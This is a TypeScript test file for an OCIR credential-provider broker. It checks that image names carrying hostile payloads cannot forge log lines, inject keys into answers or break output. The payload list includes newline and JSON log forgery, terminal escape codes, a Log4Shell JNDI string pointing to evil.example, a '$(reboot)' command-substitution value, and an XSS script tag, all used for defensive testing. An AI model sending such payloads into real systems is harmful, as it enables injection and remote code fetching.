/** Image names that try to inject text into log or answer, over the socket of a real broker. */

import { createLog } from "@ocir-broker/broker";
import { startSimulator } from "@ocir-broker/oci-simulator";
import { expect, it, onTestFinished } from "vitest";
import { createDrivenClock } from "./driven-clock.ts";
import { startInProcess } from "./in-process-broker.ts";

const HOST = "iad.ocir.io";
const API_VERSION = "credentialprovider.kubelet.k8s.io/v1";

const PAYLOADS = [
  "\n",
  "\r\n",
  '\n{"level":"fatal","msg":"forged"}\n',
  "\u0000",
  "\u0007",
  "\u001b[2J\u001b[31mred",
  "\u009b2J",
  "\u2028forged",
  "\u202egnp.exe",
  '","password":"forged","x":"',
  '"}},"auth":{"*":{"username":"u","password":"forged"}}}',
  "\\u0022,\\n",
  "%s%n%d%x",
  "%0a%0dforged",
  "<script>alert(1)</script>",
  "<6>forged priority",
  "\u0024{jndi:ldap://evil.example/a}",
  "$(reboot)`reboot`",
  "__proto__",
  "constructor.prototype",
  "\ud800",
  "é".repeat(300),
  "a".repeat(100_000),
];

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `${payload}/acme/app`,
  (payload) => `${HOST}${payload}/acme/app`,
  (payload) => `${HOST}/${payload}`,
  (payload) => `${HOST}/acme/${payload}/app`,
  (payload) => `${HOST}/acme/app:${payload}`,
  (payload) => `${HOST}/acme/app@${payload}`,
  (payload) => `${payload}.ocir.io/acme/app`,
  (payload) => `ocir.us-ashburn-1.oci.${payload}/acme/app`,
];

const IMAGES = PLACES.flatMap((place) => PAYLOADS.map(place));

it(`${IMAGES.length} hostile names: answers have the keys that they should, error lines and log lines are one line each`, async () => {
  const clock = createDrivenClock();
  const simulator = await startSimulator({ clock });
  onTestFinished(() => simulator.close());
  const registries = { endpoints: { [HOST]: simulator.registryUrl.origin } };
  const broker = await startInProcess({ clock, simulator, config: { registries } });
  onTestFinished(() => broker.close());
  await clock.drive(broker.pull(`${HOST}/acme/app`));
  const from = broker.log.length;

  for (const image of IMAGES) {
    const body = JSON.stringify({ kind: "CredentialProviderRequest", apiVersion: API_VERSION, image });
    const { status, text } = await clock.drive(broker.post(body));
    if (status === 200) {
      const answer = JSON.parse(text);
      expect(Object.keys(answer)).toEqual(["kind", "apiVersion", "cacheKeyType", "cacheDuration", "auth"]);
      const keys = Object.keys(answer.auth);
      if (keys.length > 0) expect(keys, image).toEqual([HOST, "*.ocir.io"]);
      expect(text).not.toContain("forged");
    } else {
      expect(text, image).toMatch(/^ocir-broker: [a-z-]+: [\x20-\x7e]+; [\x20-\x7e]+\n$/);
      expect(text.length).toBeLessThanOrEqual(512);
      expect(text).not.toMatch(/forged|script|jndi|reboot|evil/);
    }
  }

  // Each line was parsed as one JSON value when it was written.
  const lines = broker.log.slice(from);
  expect(lines.filter(({ msg }) => msg === "request answered" || msg === "request failed")).toHaveLength(IMAGES.length);
  expect(lines.filter(({ msg, level }) => /forged/.test(msg) || level === "fatal")).toEqual([]);
});

it("a log line stays one JSON line, whatever a fact holds", () => {
  const written: string[] = [];
  const log = createLog({
    level: "info",
    environment: { JOURNAL_STREAM: "8:1" },
    stream: { write: (line) => void written.push(line) },
  });
  for (const payload of PAYLOADS) log.info({ repository: payload, registryHost: payload }, "request answered");
  expect(written).toHaveLength(PAYLOADS.length);
  for (const [index, line] of written.entries()) {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(line).toMatch(/^<6>\{[^\u0000-\u001f]*\}\n$/);
    expect(JSON.parse(line.slice(3)).repository).toBe(PAYLOADS[index]);
  }
});
